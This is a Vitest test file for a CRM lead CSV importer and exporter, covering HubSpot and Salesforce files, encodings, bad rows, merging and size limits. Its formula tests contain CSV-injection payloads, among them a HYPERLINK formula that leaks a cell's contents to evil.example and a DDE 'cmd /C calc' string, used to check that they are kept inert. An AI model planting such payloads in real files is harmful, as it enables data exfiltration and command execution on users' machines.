import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { exportLeadsCsv } from '@/lib/csv/export';
import {
  csvHeaders,
  guessMapping,
  parseStatus,
  planImport,
  readCsvText,
  type ImportPlan,
  type Mapping,
} from '@/lib/csv/import';
import { linkedinIdentity } from '@/lib/csv/lead-key';
import { leadKey } from '@/lib/leads/lead-key';
import { makeLead } from './make-lead';

const FIXTURES = path.resolve(import.meta.dirname, '../../fixtures/csv');

function planFixture(name: string): ImportPlan {
  const read = readCsvText(new Uint8Array(readFileSync(path.join(FIXTURES, name))), name);
  return planImport(read.text, guessMapping(csvHeaders(read.text)), { fileName: name, warnings: read.warnings });
}

const byName = (plan: ImportPlan, name: string) => {
  const row = plan.rows.find((r) => r.name === name);
  expect(row, name).toBeDefined();
  return row!;
};

describe('planImport: CRM exports', () => {
  it('plans a HubSpot companies export with deal stages, merging a company seen twice', () => {
    const plan = planFixture('hubspot-companies.csv');
    expect(plan.errors).toEqual([]);
    expect(plan.stats).toEqual({
      dataRows: 6,
      planned: 5,
      rejected: 0,
      merged: 1,
      errorCount: 0,
      truncated: false,
    });
    expect(plan.sourceUrl).toBe('import:hubspot-companies.csv');

    const northwind = byName(plan, 'Northwind Analytics');
    expect(northwind).toMatchObject({ line: 2, mergedLines: [6], key: 'domain:northwind-analytics.com' });
    // One deal won, one lost: the merged company keeps the win.
    expect(northwind.status).toBe('won');
    expect(northwind.company).toMatchObject({
      industry: 'Software Development',
      employees: { min: 120, max: 120 },
      revenueUsd: { min: 12_000_000, max: 12_000_000 },
      hq: { country: 'US', region: 'US-CA', city: 'San Francisco' },
      linkedinUrl: 'https://www.linkedin.com/company/northwind-analytics/',
    });
    expect(northwind.linkedinSlug).toBe('northwind-analytics');
    expect(plan.duplicates).toEqual([
      { key: 'domain:northwind-analytics.com', name: 'Northwind Analytics', lines: [2, 6] },
    ]);

    expect(byName(plan, 'Fabrikam Logistics').status).toBe('lost');
    expect(byName(plan, 'Fabrikam Logistics').company.hq).toEqual({ country: 'DE', region: 'DE-BY', city: 'Munich' });
    expect(byName(plan, 'Contoso, Ltd.').company.employees).toEqual({ min: 51, max: 200 });
    expect(byName(plan, 'Contoso, Ltd.').status).toBe('working');
    expect(byName(plan, 'Société Lumière').status).toBe('won');
    expect(byName(plan, 'Tailspin Toys').status).toBe('qualified');
    expect(plan.warnings.map((w) => w.code)).toEqual(['unmapped-header']);
    expect(plan.warnings[0]?.message).toContain('"Record ID", "Create Date"');
  });

  it('plans a Salesforce accounts export (BOM, every cell quoted, a cell over two lines)', () => {
    const plan = planFixture('salesforce-accounts.csv');
    expect(plan.errors).toEqual([]);
    expect(plan.headers[0]).toBe('Account ID');
    expect(plan.rows.map((r) => [r.line, r.name])).toEqual([
      [2, 'Adventure Works'],
      [4, 'Litware'],
      [5, 'Wide World Importers'],
      [6, 'Proseware'],
    ]);
    const aw = byName(plan, 'Adventure Works');
    expect(aw.company).toMatchObject({
      domain: 'adventure-works.com',
      employees: { min: 4200, max: 4200 },
      revenueUsd: { min: 310_000_000, max: 310_000_000 },
      hq: { country: 'US', region: 'US-WA', city: 'Seattle' },
      description: 'Outdoor gear, made to last. Since 1998.',
    });
    expect(byName(plan, 'Litware').company.hq).toMatchObject({ country: 'US', region: 'US-TX' });
    expect(byName(plan, 'Litware').company.description).toBe('Small "dev tools" shop');
    // No website: keyed by name and country.
    expect(byName(plan, 'Proseware').key).toBe('name:proseware|au');
    expect(plan.preview).toHaveLength(4);
  });
});

describe('planImport: bad input', () => {
  it('reports three bad rows by line and plans the others', () => {
    const plan = planFixture('three-bad-rows.csv');
    expect(plan.errors).toEqual([
      { line: 3, code: 'no-identity', message: 'line 3: no company name or domain' },
      {
        line: 5,
        code: 'not-a-number',
        column: 'Number of Employees',
        value: 'lots',
        message: "line 5, Number of Employees: 'lots' is not a number",
      },
      {
        line: 7,
        code: 'quotes',
        message: 'line 7: quotes gone wrong: a quoted cell is never closed; reading went on at line 8',
      },
    ]);
    expect(plan.rows.map((r) => r.line)).toEqual([2, 4, 6, 8]);
    expect(plan.rows.map((r) => r.name)).toEqual([
      'Alpine Ski House',
      'Coho Winery',
      'Fourth Coffee',
      'Humongous Insurance',
    ]);
    expect(plan.stats).toMatchObject({ dataRows: 7, planned: 4, rejected: 3, errorCount: 3 });
  });

  it('reads a Windows-1252 file with semicolons, carrying the encoding warning', () => {
    const plan = planFixture('windows-1252-accents.csv');
    expect(plan.delimiter).toBe(';');
    expect(plan.rows.map((r) => r.name)).toEqual(['Café Müller', 'Crème Brûlée SARL', 'Señor Años']);
    expect(byName(plan, 'Café Müller').company).toMatchObject({
      hq: { country: 'DE', city: 'Cologne' },
      revenueUsd: { min: expect.any(Number) },
    });
    expect(byName(plan, 'Señor Años').company.hq).toMatchObject({ country: 'ES' });
    const encoding = plan.warnings.find((w) => w.code === 'encoding');
    expect(encoding?.message).toContain('windows-1252-accents.csv is not valid UTF-8');
  });

  it('keeps formulas as plain text, warns with their lines, and reads neutralized cells back', () => {
    const plan = planFixture('formulas.csv');
    expect(plan.errors).toEqual([]);
    expect(plan.rows[0]?.name).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")');
    expect(byName(plan, 'Plain Co')).toMatchObject({ notes: '@SUM(A1:A9)', tags: ['vip'] });
    expect(byName(plan, 'Dde Co').notes).toBe("-cmd|' /C calc'!A0");
    // Cells our export neutralized ("'=1+1") read back as they were, with no warning.
    expect(byName(plan, 'Neutral Co')).toMatchObject({ notes: '=1+1', tags: ['-5', 'x'] });
    expect(byName(plan, 'Minus Co').notes).toBe('- call back (Tuesday)');

    const formulas = plan.warnings.filter((w) => w.code === 'formula');
    expect(formulas.map((w) => [w.column, w.lines])).toEqual([
      ['Company name', [2]],
      ['Industry', [3]],
      ['Notes', [3, 4]],
    ]);
    expect(formulas[0]?.message).toMatch(/kept as plain text and never run/);
  });

  it('reports rows with more cells than the header', () => {
    const plan = planImport('Company name,Website\r\nAcme, Inc.,acme.com\r\nBeta,beta.com\r\n', undefined, {
      fileName: 'x.csv',
    });
    expect(plan.errors).toEqual([
      expect.objectContaining({ line: 2, code: 'too-many-cells', message: expect.stringMatching(/^line 2: 3 cells/) }),
    ]);
    expect(plan.rows.map((r) => r.name)).toEqual(['Beta']);
    // Trailing empty cells are no error.
    expect(planImport('Name,Website\nAcme,acme.com,,\n', undefined, { fileName: 'y.csv' }).errors).toEqual([]);
  });

  it('reports bad amounts and years, and values it drops', () => {
    const csv = [
      'Company name,Website,Annual Revenue,Year Founded,Country,Deal Stage,LinkedIn',
      'Acme,acme.com,lots of money,2012,United States,Closed Won,',
      'Beta,beta.com,5000,someday,France,Closed Lost,',
      'Gamma,not a site,5000,1999,Narnia,Bogus,https://example.com/x',
      'Delta,delta.com,$10M-$50M,1999,Germany,closedwon,',
    ].join('\n');
    const plan = planImport(csv, undefined, { fileName: 'x.csv' });
    expect(plan.errors.map((e) => e.message)).toEqual([
      "line 2, Annual Revenue: 'lots of money' is not an amount",
      "line 3, Year Founded: 'someday' is not a year",
    ]);
    const gamma = byName(plan, 'Gamma');
    expect(gamma.company.revenueUsd).toEqual({ min: 5000, max: 5000 });
    expect(gamma.company.hq).toBeUndefined();
    expect(gamma.status).toBeUndefined();
    expect(gamma.key).toBe('name:gamma|');
    expect(byName(plan, 'Delta').company.revenueUsd).toEqual({ min: 10_000_000, max: 50_000_000 });
    const codes = plan.warnings.map((w) => `${w.code}:${w.column}:${w.lines?.join('+')}`);
    expect(codes).toEqual(
      expect.arrayContaining([
        'bad-website:Website:4',
        'unknown-place:Country:4',
        'unknown-status:Deal Stage:4',
        'bad-linkedin:LinkedIn:4',
      ]),
    );
  });

  it('counts lines exactly across blank lines, whitespace-only rows and line breaks in cells', () => {
    const csv =
      'Name,Website\r\n\r\n  ,  \r\nAcme,"acme.com"\r\n"Multi\r\nline\nname",multi.com\r\n\r\n,\r\nBeta,\r\nlast,\r\n';
    const plan = planImport(csv, undefined, { fileName: 'x.csv' });
    expect(plan.rows.map((r) => [r.line, r.name])).toEqual([
      [4, 'Acme'],
      [5, 'Multi line name'],
      [10, 'Beta'],
      [11, 'last'],
    ]);
    expect(plan.stats.dataRows).toBe(4);
  });

  it('merges duplicates by domain, LinkedIn page, or name and country, and lists them', () => {
    const csv = [
      'Company name,Website,LinkedIn Company Page,Country,Tags,Notes,Status',
      'Acme,acme.com,,US,a,first,working',
      'ACME Corp,https://www.acme.com/,,US,b,second,won',
      'Beta,,https://www.linkedin.com/company/beta-co/,,x,,',
      'Beta Company,,https://de.linkedin.com/company/beta-co/about/,,y,,',
      'Gamma,,,United States,,,',
      'GAMMA,,,US,,,',
      'Gamma,,,France,,,',
    ].join('\n');
    const plan = planImport(csv, undefined, { fileName: 'dupes.csv' });
    expect(plan.duplicates).toEqual([
      { key: 'domain:acme.com', name: 'Acme', lines: [2, 3] },
      { key: 'li:beta-co', name: 'Beta', lines: [4, 5] },
      { key: 'name:gamma|us', name: 'Gamma', lines: [6, 7] },
    ]);
    expect(byName(plan, 'Acme')).toMatchObject({ tags: ['a', 'b'], notes: 'first\n\nsecond', status: 'won' });
    expect(plan.rows).toHaveLength(4);
    expect(plan.stats).toMatchObject({ dataRows: 7, planned: 4, merged: 3 });
  });

  it('warns about missing columns (and every row fails without a name or domain)', () => {
    const plan = planImport('Phone,Email\n555,a@b.c\n556,d@e.f\n', undefined, { fileName: 'contacts.csv' });
    expect(plan.rows).toEqual([]);
    expect(plan.errors.map((e) => e.line)).toEqual([2, 3]);
    const missing = plan.warnings.filter((w) => w.code === 'missing-columns').map((w) => w.message);
    expect(missing[0]).toMatch(/^contacts\.csv: no column holds the company name or domain/);
    expect(missing[1]).toBe(
      'contacts.csv: no column for Industry, Employees, Country; those stay unknown until a page of the company is seen.',
    );
  });

  it('handles an empty file, blank lines only, and a header-only file', () => {
    for (const text of ['', '\uFEFF', '\r\n\r\n  \n']) {
      const plan = planImport(text, undefined, { fileName: 'empty.csv' });
      expect(plan.rows).toEqual([]);
      expect(plan.warnings.map((w) => w.message)).toEqual(['empty.csv is empty.']);
    }
    const headerOnly = planImport('Company name,Website\r\n', undefined, { fileName: 'h.csv' });
    expect(headerOnly.headers).toEqual(['Company name', 'Website']);
    expect(headerOnly.warnings.find((w) => w.code === 'no-rows')?.message).toBe(
      'h.csv has a header row but no data rows.',
    );
  });

  it('lists at most maxErrors errors and counts the rest', () => {
    const csv = `Name,Website\n${',\u00A0x\n'.repeat(50)}`;
    const plan = planImport(csv, undefined, { fileName: 'x.csv', maxErrors: 10 });
    expect(plan.errors).toHaveLength(10);
    expect(plan.stats.errorCount).toBe(50);
    expect(plan.warnings.find((w) => w.code === 'too-many-errors')?.message).toBe(
      '50 errors in 50 rows; the first 10 are listed.',
    );
  });

  it('gives at most 20 rows in the preview', () => {
    const csv = `Name\n${Array.from({ length: 30 }, (_, i) => `Company ${i}`).join('\n')}`;
    const plan = planImport(csv, undefined, { fileName: 'x.csv' });
    expect(plan.rows).toHaveLength(30);
    expect(plan.preview.map((r) => r.name)).toEqual(plan.rows.slice(0, 20).map((r) => r.name));
  });
});

describe('planImport: size', () => {
  it('stops reading at maxRows in a 100 MB text, and says so', () => {
    const row = 'Acme "Quoted" Co,acme.com,Software,10,United States\r\n';
    const text = `Company name,Website,Industry,Employees,Country\r\n${row.repeat(Math.ceil(100e6 / row.length))}`;
    expect(text.length).toBeGreaterThan(100e6);
    const t0 = performance.now();
    const plan = planImport(text, undefined, { fileName: 'huge.csv', maxRows: 1000 });
    console.log(`plan of 1,000 rows out of a 100 MB text: ${(performance.now() - t0).toFixed(0)} ms`);
    expect(plan.stats).toMatchObject({ dataRows: 1000, truncated: true, planned: 1, merged: 999 });
    expect(plan.warnings.find((w) => w.code === 'max-rows')?.message).toBe(
      'huge.csv has more than 1,000 rows; only the first 1,000 (up to line 1001) were read. Split the file to import the rest.',
    );
  });

  it('reads exactly maxRows rows without a warning', () => {
    const plan = planImport('Name\na\nb\nc\n', undefined, { fileName: 'x.csv', maxRows: 3 });
    expect(plan.stats.truncated).toBe(false);
    expect(plan.warnings.some((w) => w.code === 'max-rows')).toBe(false);
  });

  it('gives up on a file of broken quotes quickly, with a clear report', () => {
    const text = `Company name,Website\r\n${'"a"b,c\r\n'.repeat(500_000)}`;
    const t0 = performance.now();
    const plan = planImport(text, undefined, { fileName: 'quotes.csv' });
    console.log(`500,000 lines of broken quotes: ${(performance.now() - t0).toFixed(0)} ms`);
    expect(plan.rows).toEqual([]);
    expect(plan.errors[0]?.code).toBe('quotes');
    expect(plan.warnings.some((w) => w.code === 'quotes-gave-up')).toBe(true);
  });
});

describe('planImport: mapping', () => {
  it('uses the mapping it is given, by position, else by header', () => {
    const csv = 'Org,Site,Size\nAcme,acme.com,51-200\n';
    const mapping: Mapping = [
      { index: 0, header: 'Org', field: 'name' },
      { index: 1, header: 'Site', field: 'website' },
      { index: 2, header: 'Size', field: 'ignore' },
    ];
    const plan = planImport(csv, mapping, { fileName: 'x.csv' });
    expect(plan.rows[0]?.company).toEqual({ name: 'Acme', domain: 'acme.com', website: 'https://acme.com' });
    // The user's mapping of a file whose columns moved: matched by header.
    const moved = planImport('Site,Org,Size\nacme.com,Acme,51-200\n', mapping, { fileName: 'x.csv' });
    expect(moved.mapping.map((m) => m.field)).toEqual(['website', 'name', 'ignore']);
    expect(moved.rows[0]?.name).toBe('Acme');
    // Unknown fields are ignored, not trusted.
    const odd = planImport(csv, [{ index: 0, header: 'Org', field: 'evil' as 'name' }], { fileName: 'x.csv' });
    expect(odd.mapping.map((m) => m.field)).toEqual(['ignore', 'ignore', 'ignore']);
  });

  it('guesses the mapping when given none', () => {
    const plan = planImport('Company name,Website\nAcme,acme.com\n', undefined, { fileName: 'x.csv' });
    expect(plan.mapping.map((m) => m.field)).toEqual(['name', 'website']);
  });
});

describe('parseStatus', () => {
  it('reads our statuses and CRM stages', () => {
    expect(parseStatus('Closed Won')).toBe('won');
    expect(parseStatus('closedwon')).toBe('won');
    expect(parseStatus('CLOSED - LOST')).toBe('lost');
    expect(parseStatus('Qualified')).toBe('qualified');
    expect(parseStatus('disqualified')).toBe('disqualified');
    expect(parseStatus('Unqualified')).toBe('disqualified');
    expect(parseStatus('Open - Not Contacted')).toBe('new');
    expect(parseStatus('Negotiation/Review')).toBe('working');
    expect(parseStatus('maybe')).toBeUndefined();
    expect(parseStatus('')).toBeUndefined();
  });
});

describe('export, then import', () => {
  it("gives back the leads of an 'all' export", () => {
    const leads = [
      makeLead(),
      makeLead({
        key: 'name:=evil|FR',
        name: '=HYPERLINK("http://evil.example","x")',
        status: 'lost',
        tags: ['-5', '@home'],
        notes: '+1 call "back", later\r\nsecond line',
        company: {
          name: '=HYPERLINK("http://evil.example","x")',
          industry: 'Retail',
          employees: { min: 10_001 },
          hq: { country: 'FR', region: 'FR-IDF', city: 'Paris' },
        },
      }),
    ];
    const csv = exportLeadsCsv(leads, { preset: 'all', bom: true, now: '2026-11-24T00:00:00Z' });
    const read = readCsvText(new TextEncoder().encode(csv), 'leads.csv');
    const plan = planImport(read.text, undefined, { fileName: 'leads.csv', warnings: read.warnings });
    expect(plan.errors).toEqual([]);
    expect(plan.warnings.filter((w) => w.code !== 'unmapped-header')).toEqual([]);
    expect(plan.rows).toHaveLength(2);
    const [a, b] = plan.rows;
    // The signals are counted in the export, not listed: they do not come back.
    const company = { ...leads[0].company };
    delete company.signals;
    expect(a.company).toEqual(company);
    expect(a).toMatchObject({ key: leads[0].key, status: 'working', tags: leads[0].tags, notes: leads[0].notes });
    expect(b.company).toEqual(leads[1].company);
    expect(b).toMatchObject({ status: 'lost', tags: ['-5', '@home'], notes: '+1 call "back", later\r\nsecond line' });
    expect(b.key).toBe('name:hyperlink http evilexample x|fr');
  });

  it('reads a HubSpot export back (bucket as one number, by design)', () => {
    const csv = exportLeadsCsv([makeLead()], { preset: 'hubspot' });
    const plan = planImport(csv, undefined, { fileName: 'hs.csv' });
    expect(plan.rows[0]?.company).toMatchObject({
      name: 'Northwind Analytics',
      domain: 'northwind-analytics.com',
      employees: { min: 200, max: 200 },
      hq: { country: 'US', region: 'US-CA', city: 'San Francisco' },
    });
    expect(plan.rows[0]).toMatchObject({ status: 'working', tags: ['conference', 'warm'] });
  });
});

describe('planImport: keys and remembered values', () => {
  const files = ['hubspot-companies.csv', 'salesforce-accounts.csv', 'windows-1252-accents.csv', 'three-bad-rows.csv'];

  it.each(files)('keys every row of %s as the database does', (file) => {
    const plan = planFixture(file);
    expect(plan.rows.length).toBeGreaterThan(0);
    for (const row of plan.rows) {
      const li = linkedinIdentity(row.company.linkedinUrl);
      const { domain, name, hq } = row.company;
      expect(row.key).toBe(leadKey({ domain, name, country: hq?.country, linkedinId: li.id, linkedinSlug: li.slug }));
    }
  });

  it('gives rows that share a head count or revenue text their own copies of the value', () => {
    const text = 'Company name,Number of Employees,Annual Revenue\nA,51-200,$10M\nB,51-200,$10M\n';
    const [a, b] = planImport(text, undefined, { fileName: 'f.csv' }).rows;
    expect(a.company.employees).toEqual({ min: 51, max: 200 });
    expect(b.company.revenueUsd).toEqual(a.company.revenueUsd);
    expect(b.company.employees).not.toBe(a.company.employees);
    expect(b.company.revenueUsd).not.toBe(a.company.revenueUsd);
  });
});
